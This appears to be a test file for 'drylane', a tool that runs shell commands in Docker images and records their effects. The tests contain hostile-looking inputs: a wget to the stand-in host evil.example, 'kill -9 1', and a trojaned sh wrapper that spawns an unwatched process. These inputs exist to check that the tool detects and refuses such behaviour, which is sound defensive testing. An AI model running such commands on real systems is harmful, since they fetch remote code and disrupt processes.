import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rehearsing } from './rehearsing.ts';

const IMAGE = 'drylane-test/busybox';
const place = realpathSync(mkdtempSync(join(tmpdir(), 'drylane-images-')));
const site = join(place, 'site');
const docker = (...args: readonly string[]): string =>
  execFileSync('docker', args, { encoding: 'utf8' }).trim();

beforeAll(() => {
  mkdirSync(site);
  writeFileSync(join(site, 'a.txt'), 'a\n');
  const bin = join(place, 'root', 'bin');
  mkdirSync(bin, { recursive: true });
  const container = docker('create', 'drylane/toolkit', '/none');
  try {
    docker('cp', `${container}:/.drylane/busybox`, join(bin, 'busybox'));
  } finally {
    docker('rm', container);
  }
  chmodSync(join(bin, 'busybox'), 0o755);
  for (const name of ['sh', 'cat', 'wget', 'sleep', 'kill']) symlinkSync('busybox', join(bin, name));
  execFileSync('sh', ['-c', `tar -C '${join(place, 'root')}' -c . | docker import - ${IMAGE}`], {
    stdio: 'ignore',
  });
});

afterAll(() => {
  docker('rmi', IMAGE);
  rmSync(place, { recursive: true });
});

describe('an image that holds nothing but a static busybox', () => {
  it('is watched as any other: the tools that watch come with drylane', async () => {
    const command = 'cat a.txt > b.txt; wget -q http://evil.example/x; (sleep 300 &) ; kill -9 1; true';
    const { evidence } = await rehearsing(command, {
      ...{ site, state: join(place, 'state'), way: 'slot', shell: 'sh', image: IMAGE },
    });
    expect(evidence.stderr.text).toContain('bad address');
    expect(evidence.steps.map(({ exit_code }) => exit_code)).toEqual([0, 1, 0, 0, 0]);
    expect(evidence.changes.map(({ path, step }) => [path, step])).toEqual([['b.txt', 0]]);
    expect(evidence.network).toMatchObject([
      { protocol: 'dns', host: 'evil.example', program: 'wget', step: 1 },
    ]);
    expect(evidence.processes.find(({ argv }) => argv[0] === 'wget')).toMatchObject({
      exit_code: 1,
      step: 1,
    });
    expect(evidence.leftovers).toMatchObject([{ argv: ['sleep', '300'] }]);
    expect(evidence.privileged).toMatchObject([{ syscall: 'kill', step: 3 }]);
    expect(evidence.complete).toBe(false);
  });

  it('cannot have a volume in the workspace, where no change would be seen, and is told of any other', async () => {
    const kept = `${IMAGE}-kept`;
    const pack = (path: string) =>
      execFileSync('sh', [
        '-c',
        `tar -C '${join(place, 'root')}' -c . | docker import -c 'VOLUME ${path}' - ${kept}`,
      ]);
    const asked = { site, state: join(place, 'state'), way: 'slot', shell: 'sh', image: kept } as const;
    try {
      pack('/kept');
      const { evidence } = await rehearsing('cat a.txt', asked);
      expect(evidence.fidelity.unobserved).toContainEqual(expect.stringContaining('/kept,'));
      docker('rmi', kept);
      pack(join(site, 'sub'));
      await expect(rehearsing('echo x > sub/x', asked)).rejects.toMatchObject({
        code: 'bad-input',
        problems: [{ field: 'image', message: expect.stringContaining('volume inside the workspace') }],
      });
    } finally {
      docker('rmi', kept);
    }
  });

  it('has no say in how its tracer is loaded, and its command has what it says', async () => {
    const loading = `${IMAGE}-loading`;
    const variables = 'LD_DEBUG=files LD_DEBUG_OUTPUT=/loaded __drylane_text=x';
    const pack = `tar -C '${join(place, 'root')}' -c . | docker import -c 'ENV ${variables}' - ${loading}`;
    execFileSync('sh', ['-c', pack], { stdio: 'ignore' });
    try {
      const { evidence } = await rehearsing('export -p', {
        ...{ site, state: join(place, 'state'), way: 'slot', shell: 'sh', image: loading },
      });
      expect(evidence.stdout.text).toContain("LD_DEBUG='files'\nexport LD_DEBUG_OUTPUT='/loaded'\n");
      expect(evidence.stdout.text).not.toContain('__drylane');
      expect(evidence.outside).toEqual([]);
    } finally {
      docker('rmi', loading);
    }
  });

  it('is refused where its shell starts something unwatched', async () => {
    const evil = `${IMAGE}-evil`;
    const bin = join(place, 'root', 'bin');
    rmSync(join(bin, 'sh'));
    writeFileSync(
      join(bin, 'sh'),
      '#!/bin/busybox sh\n/bin/busybox sleep 20 &\nexec /bin/busybox sh "$@"\n',
      {
        mode: 0o755,
      },
    );
    execFileSync('sh', ['-c', `tar -C '${join(place, 'root')}' -c . | docker import - ${evil}`], {
      stdio: 'ignore',
    });
    try {
      await expect(
        rehearsing('true; true', {
          ...{ site, state: join(place, 'state'), way: 'slot', shell: 'sh', image: evil },
        }),
      ).rejects.toMatchObject({ code: 'bad-input', problems: [{ field: 'image' }] });
    } finally {
      docker('rmi', evil);
    }
  });
});
